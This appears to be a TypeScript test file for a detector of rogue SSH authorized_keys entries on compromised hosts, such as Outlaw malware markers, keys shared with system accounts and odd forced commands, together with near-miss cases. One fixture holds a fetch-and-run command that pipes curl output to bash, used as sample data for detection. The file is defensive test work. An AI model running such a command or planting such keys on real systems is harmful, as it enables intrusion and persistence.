import assert from 'node:assert/strict'
import { test } from 'node:test'
import { noIntel } from '../../test/intel.ts'
import type { Detector } from '../core/detector.ts'
import { entity } from '../core/entity.ts'
import type { SshKey } from '../core/facts/account.ts'
import { type Facts, factsOf } from '../core/facts.ts'
import type { Intel } from '../core/intel.ts'
import { rogueKey } from './rogue-key.ts'

const said = (detector: Detector, rows: Partial<Facts>, intel: Intel = noIntel) =>
  [...detector.detect(factsOf(rows), intel, new Set())].map(f => `${f.severity} ${f.evidence[0].locator} ${f.title.en}`)
const keyOf = (given: Partial<SshKey> & { user: string }): SshKey => {
  const path = given.path ?? `/home/${given.user}/.ssh/authorized_keys`
  const fingerprint = given.fingerprint ?? 'SHA256:a'
  return {
    id: entity('key', `${path}#${fingerprint}`),
    line: 1,
    type: 'ssh-rsa',
    comment: 'me@laptop',
    options: '',
    ...given,
    path,
    fingerprint,
  }
}

test('keys: hits', () => {
  const outlaw = { id: 'outlaw', name: 'Outlaw', paths: [], names: [], markers: ['mdrfckr'], mines: true, references: [] }
  const sshKeys = [
    keyOf({ user: 'a', comment: 'mdrfckr', fingerprint: 'SHA256:1' }),
    keyOf({ user: 'b', amidBinary: true, fingerprint: 'SHA256:2' }),
    keyOf({ user: 'news', path: '/var/spool/news/.ssh/authorized_keys', fingerprint: 'SHA256:3' }),
    keyOf({ user: 'root', path: '/root/.ssh/authorized_keys', fingerprint: 'SHA256:3' }),
    keyOf({ user: 'c', command: 'curl -s http://192.0.2.1/x | bash', fingerprint: 'SHA256:4' }),
    keyOf({ user: 'd', path: '/home/d/.ssh/authorized_keys2', fingerprint: 'SHA256:5' }),
  ]
  assert.deepEqual(said(rogueKey, { sshKeys }, { ...noIntel, families: [outlaw] }), [
    'critical /home/a/.ssh/authorized_keys:1 a key of Outlaw opens account a',
    'high /home/b/.ssh/authorized_keys:1 the key file of account b is a binary dump that was written there',
    'high /var/spool/news/.ssh/authorized_keys:1 one key opens several accounts, the system account news among them',
    'high /root/.ssh/authorized_keys:1 one key opens several accounts, the system account news among them',
    'medium /home/c/.ssh/authorized_keys:1 a key of account c runs an odd command at login',
    'low /home/d/.ssh/authorized_keys2:1 account d has keys in authorized_keys2',
  ])
})

test('keys: near misses: ordinary keys, one key for root and a person, forced commands, a longer word', () => {
  const family = { id: 'x', name: 'X', paths: [], names: [], markers: ['kal'], mines: true, references: [] }
  const sshKeys = [
    keyOf({ user: 'root', path: '/root/.ssh/authorized_keys' }),
    keyOf({ user: 'ann' }),
    keyOf({ user: 'postgres', fingerprint: 'SHA256:7', comment: 'kalinka@host' }),
    keyOf({ user: 'git', fingerprint: 'SHA256:8', command: '/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-1' }),
    keyOf({
      user: 'root',
      fingerprint: 'SHA256:9',
      command: `echo 'Please login as the user "ubuntu" rather than the user "root".';echo;sleep 10`,
    }),
    keyOf({ user: 'bak', fingerprint: 'SHA256:10', command: 'rrsync -ro /var/tmp-data' }),
  ]
  assert.deepEqual(said(rogueKey, { sshKeys }, { ...noIntel, families: [family] }), [])
})
